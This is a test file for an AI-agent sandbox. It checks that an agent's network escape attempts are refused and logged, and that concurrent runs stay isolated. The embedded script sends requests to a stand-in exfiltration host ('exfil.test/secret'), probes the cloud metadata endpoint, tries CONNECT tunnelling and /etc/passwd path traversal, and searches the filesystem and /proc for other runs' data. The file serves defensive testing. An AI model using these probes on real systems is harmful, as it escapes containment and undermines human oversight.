/** Every way out that an agent may try ends at the gateway's refusal, and the run's log says so. */
import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runLogs } from '../../orchestrator/commands/run.ts';
import { contextFor } from '../scenarios/context.ts';
import { shellAgent } from '../scenarios/steps.ts';
import { leftOver, queue, settle, testFactory } from '../scenarios/support.ts';
import { tinyRepository } from '../scenarios/tiny.ts';

/** Prints one line for each try: what was asked and what came of it. */
const TRIES = `import net from 'node:net'; import dns from 'node:dns/promises';
const raw = (text) => new Promise((done) => {
  let said = '';
  const socket = net.connect(8080, '127.0.0.1', () => socket.write(text));
  socket.on('data', (bytes) => { said += bytes; socket.end(); });
  socket.on('close', () => done(said.split('\\r\\n')[0] || 'closed'));
  socket.on('error', (error) => done(error.code));
  setTimeout(() => socket.destroy(), 15000).unref();
});
const ask = (method, target, more = '') =>
  raw(method + ' ' + target + ' HTTP/1.1\\r\\nhost: x\\r\\n' + more + 'connection: close\\r\\n\\r\\n');
const direct = (host, port) => new Promise((done) => {
  const socket = net.connect({ host, port, timeout: 3000 });
  for (const event of ['connect', 'timeout']) socket.on(event, () => { socket.destroy(); done(event); });
  socket.on('error', (error) => done(error.code));
});
const say = (what, came) => console.log(what + ' => ' + came);
say('direct', await direct('203.0.113.7', 443));
say('six', await direct('2001:db8::7', 443));
say('metadata', await direct('169.254.169.254', 80));
say('name', await dns.lookup('exfil.test').then(() => 'answered', (error) => error.code));
say('absolute', await ask('GET', 'http://exfil.test/secret'));
say('absolute model', await ask('POST', 'http://exfil.test/v1/responses', 'content-length: 0\\r\\n'));
say('metadata by proxy', await ask('GET', 'http://169.254.169.254/latest/meta-data/'));
say('connect', await ask('CONNECT', 'exfil.test:443'));
say('upgrade', await ask('GET', '/', 'upgrade: websocket\\r\\nconnection: upgrade\\r\\n'));
say('path', await ask('GET', '/admin'));
say('dots', await ask('GET', '/v1/../../etc/passwd'));
say('registry', await ask('GET', '/registry/left-pad'));
say('encoded', await ask('GET', '/%2e%2e/registry/left-pad'));
say('delete', await ask('DELETE', '/v1/models'));
say('forged', await ask('GET', '/\\u001b[31mred'));
say('tls', await raw(Buffer.from('16030100050100000100', 'hex')));
`;

describe('an agent that reaches for the network', () => {
  it('is refused at every door, and each try is in the log of its run', async () => {
    const factory = await testFactory('network');
    const repository = tinyRepository(path.join(factory.home, 'tiny'), {
      ...shellAgent('node tries.mjs; echo "export const x = 1;" > src/added.mjs\n'),
      'tries.mjs': TRIES,
    });
    const task = await queue(factory, repository, 'Reach out');
    expect(await settle(factory, task.id)).toMatchObject({ outcome: { kind: 'published' } });

    const activity = await factory.store.activity(task.id);
    const came = Object.fromEntries(
      activity
        .filter(({ source }) => source === 'agent')
        .map(({ text }) => text.split(' => '))
        .map(([what = '', how = '']) => [what, how]),
    );
    const closed = expect.stringMatching(/^HTTP\/1\.1 (403|400)/);
    expect(came).toEqual({
      ...{ direct: 'ENETUNREACH', six: expect.stringMatching(/^E/), metadata: 'ENETUNREACH' },
      ...{ name: 'EAI_AGAIN', absolute: closed, 'absolute model': closed },
      ...{ 'metadata by proxy': closed, connect: closed, upgrade: closed, path: closed },
      ...{ dots: closed, registry: closed, encoded: closed, delete: closed, forged: closed },
      tls: closed,
    });

    const context = contextFor(factory);
    await runLogs(context, task.id);
    const log = context.printed.join('\n');
    for (const tried of [
      'GET http://exfil.test/secret',
      'POST http://exfil.test/v1/responses',
      'GET http://169.254.169.254/latest/meta-data/',
      '"target":"exfil.test:443"',
      'GET / (upgrade to websocket)',
      'GET /admin',
      'GET /v1/../../etc/passwd',
      'GET /registry/left-pad',
      'DELETE /v1/models',
      'unreadable request',
    ]) {
      expect(log).toContain(tried);
    }
    const refused = activity.filter(({ kind }) => kind === 'refused');
    expect(refused).toHaveLength(12);
    const [pull] = await factory.forge.pullRequests(repository);
    expect(pull?.body).toContain('12 tries to reach the network were seen and refused.');
    expect(leftOver(task.id)).toEqual([]);
  });
});

describe('two runs at once', () => {
  it('see nothing of each other: no workspace, no launch folder, no socket', async () => {
    const factory = await testFactory('neighbours');
    const look = `echo "mine is $SECRET" > note-$RUN.txt; sleep 4
      grep -rl "mine is" / --include='note-*' 2>/dev/null; find / -name gateway.sock 2>/dev/null
      ls /run/proofhouse; ls -A /mirror/.. | head -50; printf 'runs here: '; cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '\n`;
    const repositories = ['one', 'two'].map((name) => {
      const folder = path.join(factory.home, name);
      mkdirSync(folder);
      const script = look.replace('$SECRET', name).replace('$RUN', name);
      return tinyRepository(folder, shellAgent(script));
    });
    const tasks = await Promise.all(repositories.map((one) => queue(factory, one, 'Look around')));
    for (const task of tasks) await settle(factory, task.id);
    const overlaps = await Promise.all(tasks.map(({ id }) => working(factory, id)));
    expect(Math.max(...overlaps.map(([from = 0]) => from))).toBeLessThan(
      Math.min(...overlaps.map(([, to = 0]) => to)),
    );
    for (const [at, task] of tasks.entries()) {
      const [own, other] = at === 0 ? ['one', 'two'] : ['two', 'one'];
      const said = (await factory.store.activity(task.id)).map(({ text }) => text);
      expect(said).toContain(`/workspace/note-${own}.txt`);
      expect(said.filter((line) => line.startsWith('/'))).toEqual([
        `/workspace/note-${own}.txt`,
        '/run/proofhouse/gateway.sock',
      ]);
      expect(said.join('\n')).not.toContain(`note-${other}`);
      expect(leftOver(task.id)).toEqual([]);
    }
  });
});

/** When the agent of a run worked, in milliseconds. */
async function working(
  factory: Awaited<ReturnType<typeof testFactory>>,
  run: Parameters<typeof leftOver>[0],
): Promise<[number, number]> {
  const journal = await factory.store.read(run);
  const at = (type: string) =>
    Date.parse(journal.find(({ event }) => event.type === type)?.at ?? '');
  return [at('workspace_ready'), at('agent_finished')];
}
